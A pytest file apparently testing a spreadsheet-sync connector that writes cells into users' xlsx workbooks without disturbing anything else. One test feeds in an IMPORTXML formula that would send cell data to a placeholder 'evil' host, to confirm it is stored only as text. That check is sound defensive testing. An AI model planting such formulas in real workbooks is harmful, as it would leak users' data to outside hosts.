"""Writing into a workbook of people's: our cells change, and nothing else does."""

import re
from datetime import date, datetime, time, timedelta

import pytest

from connectors.workbook import open_source
from connectors.workbook.facts import letters
from syncer.domain.changes import OwnCell
from syncer.domain.page import Look
from syncer.errors import AccessError, ConflictError
from tests.connectors.workbook.books import (
    parts_of,
    raw_book,
    raw_records,
    rels,
    rich_book,
    worksheet,
)
from tests.connectors.workbook.writing import SUMMARY, change, grid, opened, read, write

DUE = date(2026, 5, 4)
HEADERS = {6: "ID", 7: "Health", 8: "Forecast", 9: "Why"}
OURS = {
    row: {
        6: f"M-{row:04}",
        7: OwnCell(7, "Red", Look.RED),
        8: OwnCell(8, DUE, Look.DATE),
        9: OwnCell(9, "it waits for <Ann> & Ben", Look.WRAP),
    }
    for row in range(4, 16)
}
FOLLOWS = re.compile(rb'(<dimension ref=")[^"]*|( spans=")[^"]*|<cols>.*?</cols>')


@pytest.fixture
def plan(tmp_path):
    return rich_book(tmp_path / "plan.xlsx")


def without(xml, places):
    """The sheet's XML without the cells of *places* and without what must follow them."""
    for row, column in places:
        ref = letters(column) + str(row).encode()
        xml = re.sub(rb'<c r="%s"(?:[^>]*/>|.*?</c>)' % ref, b"", xml)
    return FOLLOWS.sub(rb"\1\2", xml)


def test_every_part_but_the_sheet_and_the_styles_stays_byte_for_byte(plan):
    before = plan.read_bytes()
    write(plan, change(OURS, headers=HEADERS))
    after = plan.read_bytes()
    old, new = raw_records(before), raw_records(after)
    assert list(parts_of(before)) == list(parts_of(after))
    changed = {name for name in old if old[name] != new[name]}
    assert changed == {"xl/worksheets/sheet1.xml", "xl/styles.xml"}
    assert {"xl/charts/chart1.xml", "xl/media/image1.png", "xl/comments1.xml"} <= set(old)


def test_inside_the_sheet_only_our_cells_differ(plan):
    part = "xl/worksheets/sheet1.xml"
    before, cells = parts_of(plan.read_bytes())[part], grid(plan)
    write(plan, change(OURS, headers=HEADERS))
    after = parts_of(plan.read_bytes())[part]
    ours = {(3, column) for column in HEADERS} | {(r, c) for r, row in OURS.items() for c in row}
    assert after != before
    assert without(after, ours) == without(before, ours)
    now = grid(plan)
    assert {place: value for place, value in now.items() if place not in ours} == cells
    assert {now[3, column] for column in HEADERS} == set(HEADERS.values())
    assert [now[9, column] for column in HEADERS] == [
        "M-0009",
        "Red",
        DUE,
        "it waits for <Ann> & Ben",
    ]


def test_the_styles_only_grow_and_only_once(plan):
    part = "xl/styles.xml"
    before = parts_of(plan.read_bytes())[part]
    write(plan, change(OURS, headers=HEADERS))
    once = parts_of(plan.read_bytes())[part]
    assert kept_in_order(before, once)
    green = {row: {7: OwnCell(7, "Green", Look.GREEN), 8: date(2026, 6, row)} for row in OURS}
    write(plan, change(green))
    twice = parts_of(plan.read_bytes())[part]
    write(plan, change(OURS))
    write(plan, change(green))
    assert parts_of(plan.read_bytes())[part] == twice
    assert twice.count(b"<fill>") == once.count(b"<fill>") + 1


def kept_in_order(before, after):
    """Whether every element of *before* still stands in *after*, in the same order."""
    place = 0
    for tag in re.findall(rb"<[^>]*>", re.sub(rb' count="\d+"', b"", before)):
        place = re.sub(rb' count="\d+"', b"", after).find(tag, place)
        if place < 0:
            return False
    return True


def test_the_counts_in_the_styles_are_right(plan):
    write(plan, change(OURS, headers=HEADERS, page=SUMMARY))
    styles = parts_of(plan.read_bytes())["xl/styles.xml"].decode()
    for section, child in (
        ("fonts", "font"),
        ("fills", "fill"),
        ("cellXfs", "xf"),
        ("numFmts", "numFmt"),
    ):
        found = re.search(rf'<{section} count="(\d+)"[^>]*>(.*?)</{section}>', styles, re.DOTALL)
        assert int(found[1]) == len(re.findall(rf"<{child}[\s/>]", found[2])), section


def test_our_columns_look_like_their_neighbours(plan):
    write(plan, change(OURS, headers=HEADERS))
    sheet = opened(plan)["Plan"]
    assert sheet["F3"].font.bold
    assert sheet["F3"].fill.fgColor.rgb == sheet["E3"].fill.fgColor.rgb
    assert sheet["I5"].border.left.style == sheet["E5"].border.left.style == "thin"
    assert sheet["H5"].number_format == sheet["C5"].number_format == "dd.mm.yyyy"
    assert sheet["G5"].fill.fgColor.rgb.endswith("F6C7C7")
    assert sheet["I5"].alignment.wrap_text
    assert sheet["F5"].number_format == "General"
    assert sheet.column_dimensions["I"].width == 48
    assert not sheet.column_dimensions["H"].hidden, "a new column must not be hidden"


def test_a_status_that_changes_changes_its_colour_and_keeps_the_rest(plan):
    write(plan, change(OURS, headers=HEADERS))
    write(
        plan, change({5: {7: OwnCell(7, "Green", Look.GREEN)}, 6: {7: OwnCell(7, "", Look.PLAIN)}})
    )
    sheet = opened(plan)["Plan"]
    assert sheet["G5"].fill.fgColor.rgb.endswith("CDE8CF")
    assert sheet["G5"].border.left.style == "thin"
    assert sheet["G6"].fill.fill_type is None
    assert sheet["G6"].value is None


def test_a_formula_is_never_written_over(plan):
    written = write(plan, change({4: {5: "ours", 6: "M-1"}, 5: {6: "M-2"}}))
    assert opened(plan)["Plan"]["E4"].value == "=C4-46000"
    assert grid(plan)[4, 6] == "M-1"
    assert written.rows == {5}, "row 4 is not proven to be written"


def test_an_array_formula_is_not_written_into(tmp_path):
    cells = '<c r="A1"><f t="array" ref="A1:B2">C1:D2</f><v>1</v></c><c r="B1"><v>2</v></c>'
    path = tmp_path / "plan.xlsx"
    path.write_bytes(raw_book(worksheet(f'<row r="1">{cells}</row><row r="2"/>')))
    assert write(path, change({1: {2: "x"}, 2: {2: "x", 3: "y"}})).rows == frozenset()
    assert grid(path) == {(1, 1): 1.0, (1, 2): 2.0, (2, 3): "y"}
    assert read(path).tabs[0].formulas == {(1, 1), (1, 2), (2, 1), (2, 2)}


def test_the_same_again_touches_no_byte_and_not_the_file(plan):
    write(plan, change(OURS, headers=HEADERS, page=SUMMARY))
    octets, stamp = plan.read_bytes(), plan.stat()
    write(plan, change(OURS, headers=HEADERS, page=SUMMARY))
    assert plan.read_bytes() == octets
    assert (plan.stat().st_ino, plan.stat().st_mtime_ns) == (stamp.st_ino, stamp.st_mtime_ns)


@pytest.mark.parametrize(
    ("value", "wanted"),
    [
        (3, 3.0),
        (-2.5, -2.5),
        (1e300, 1e300),
        (True, True),
        (DUE, DUE),
        (date(1900, 2, 28), date(1900, 2, 28)),
        (date(1850, 1, 1), "1850-01-01"),
        (datetime(2026, 5, 4, 15, 30), datetime(2026, 5, 4, 15, 30)),
        (time(9, 15), time(9, 15)),
        (timedelta(hours=30), timedelta(hours=30)),
        ("007", "007"),
        ("=1+1", "=1+1"),
        ("line\nline", "line\nline"),
        ("cr\rlf", "cr\rlf"),
        ("_x0041_", "_x0041_"),
        (" kept ", " kept "),
        ("bell\x07\x00\ufffe\ud800", "bell"),
        ("Ω 𝄞 🚀 שלום", "Ω 𝄞 🚀 שלום"),
        (float("nan"), "nan"),
    ],
)
def test_a_value_is_read_back_as_it_was_meant(plan, value, wanted):
    write(plan, change({4: {6: value}}))
    assert grid(plan)[4, 6] == wanted
    assert type(grid(plan)[4, 6]) is type(wanted)


@pytest.mark.parametrize("text", ["x" * 50_001, "🚀" * 20_000])
def test_text_longer_than_a_cell_is_cut_with_an_ellipsis(plan, text):
    write(plan, change({4: {6: text}}))
    held = grid(plan)[4, 6]
    assert held.endswith("…")
    assert text.startswith(held[:-1])
    assert 32_765 < len(held.encode("utf-16-le")) / 2 <= 32_767


def test_formula_like_text_is_text_to_openpyxl_too(plan):
    write(plan, change({4: {6: '=IMPORTXML("https://evil/?"&A1,"//x")'}}))
    cell = opened(plan)["Plan"]["F4"]
    assert cell.data_type == "s" or cell.value.startswith("=IMPORTXML")
    assert b"<f>IMPORT" not in parts_of(plan.read_bytes())["xl/worksheets/sheet1.xml"]


def test_days_of_a_workbook_that_counts_from_1904(tmp_path):
    path = tmp_path / "mac.xlsx"
    styles = (
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs count="2">'
        '<xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    )
    sheet = worksheet('<row r="1"><c r="A1" s="1"><v>44620</v></c></row>')
    path.write_bytes(raw_book(sheet, settings='<workbookPr date1904="1"/>', styles=styles))
    assert grid(path) == {(1, 1): date(2026, 3, 1)}
    write(path, change({1: {2: date(2026, 3, 2)}}))
    assert grid(path)[1, 2] == date(2026, 3, 2)
    assert b"<v>44621</v>" in parts_of(path.read_bytes())["xl/worksheets/sheet1.xml"]


@pytest.mark.parametrize(
    ("day", "serial"),
    [
        (date(1900, 1, 1), 1),
        (date(1900, 2, 28), 59),
        (date(1900, 3, 1), 61),
        (date(2026, 3, 1), 46082),
    ],
)
def test_days_count_from_1900_with_the_leap_day_that_never_was(plan, day, serial):
    write(plan, change({4: {6: day}}))
    xml = parts_of(plan.read_bytes())["xl/worksheets/sheet1.xml"]
    assert re.search(rb'<c r="F4"[^>]*><v>%d</v></c>' % serial, xml)


def test_a_workbook_without_styles_gets_them_with_all_that_leads_there(tmp_path):
    path = tmp_path / "bare.xlsx"
    path.write_bytes(raw_book(worksheet('<row r="1"><c r="A1"><v>1</v></c></row>')))
    write(path, change({1: {2: "plain"}}))
    assert "xl/styles.xml" not in parts_of(path.read_bytes())
    write(path, change({1: {2: DUE, 3: OwnCell(3, "Red", Look.RED)}}, page=SUMMARY))
    assert grid(path)[1, 2] == DUE
    assert opened(path)["Plan"]["C1"].fill.fgColor.rgb.endswith("F6C7C7")
    assert opened(path)["Summary"]["A1"].font.size == 16


def test_a_tab_that_is_gone_is_a_conflict(plan):
    with pytest.raises(ConflictError, match="no tab 'Old'"):
        write(plan, change({4: {6: "x"}}, tab="Old"))


def test_a_signed_workbook_is_read_only(tmp_path):
    path = tmp_path / "signed.xlsx"
    octets = raw_book(
        worksheet('<row r="1"><c r="A1"><v>1</v></c></row>'),
        more={
            "_rels/.rels": rels(
                ("rId1", "officeDocument", "xl/workbook.xml"),
                ("rId2", "digital-signature/origin", "_xmlsignatures/origin.sigs"),
            ),
            "_xmlsignatures/origin.sigs": "",
        },
    )
    path.write_bytes(octets)
    assert "signed" in read(path).read_only
    with pytest.raises(AccessError, match="signature"):
        write(path, change({1: {2: "x"}}))
    assert path.read_bytes() == octets


def test_macros_survive(tmp_path):
    macros = tmp_path / "vbaProject.bin"
    macros.write_bytes(b"\xd0\xcf\x11\xe0 pretend")
    path = rich_book(tmp_path / "plan.xlsm", macros=macros)
    write(path, change(OURS, headers=HEADERS, page=SUMMARY))
    assert parts_of(path.read_bytes())["xl/vbaProject.bin"] == macros.read_bytes()
    assert b"macroEnabled" in parts_of(path.read_bytes())["[Content_Types].xml"]


def test_hidden_rows_filters_and_merges_are_no_obstacle(plan):
    snapshot = read(plan)
    tab = snapshot.tab("Plan")
    assert (tab.hidden_rows, tab.hidden_columns) == ({6}, {8})
    assert tab.merges == ((1, 1, 1, 5),)
    assert tab.percents == {4}
    assert tab.formulas == {(row, 5) for row in range(4, 16)}
    assert [(tab.name, tab.hidden) for tab in snapshot.tabs] == [
        ("Plan", False), ("Team & Co", False), ("Lists", True),
    ]  # fmt: skip
    write(plan, change({6: {6: "M-6"}, 1: {3: "inside the merged title"}}))
    assert grid(plan)[6, 6] == "M-6"
    assert read(plan).tab("Plan").hidden_rows == {6}


def test_rows_beyond_the_table_are_made_in_their_order(plan):
    write(plan, change({2: {6: "two"}, 17: {6: "seventeen"}, 40: {6: "forty"}}))
    assert {place: value for place, value in grid(plan).items() if place[1] == 6} == {
        (2, 6): "two", (17, 6): "seventeen", (40, 6): "forty",
    }  # fmt: skip
    xml = parts_of(plan.read_bytes())["xl/worksheets/sheet1.xml"]
    rows = [int(row) for row in re.findall(rb'<row r="(\d+)"', xml)]
    assert rows == sorted(set(rows))
    assert b'ref="A1:F40"' in xml


def test_the_version_it_was_decided_on_must_still_stand(plan):
    source = open_source(str(plan), {})
    old = source.version()
    source.write(change({4: {6: "M-1"}}), old)
    octets = plan.read_bytes()
    with pytest.raises(ConflictError):
        source.write(change({4: {6: "M-2"}}), old)
    assert plan.read_bytes() == octets
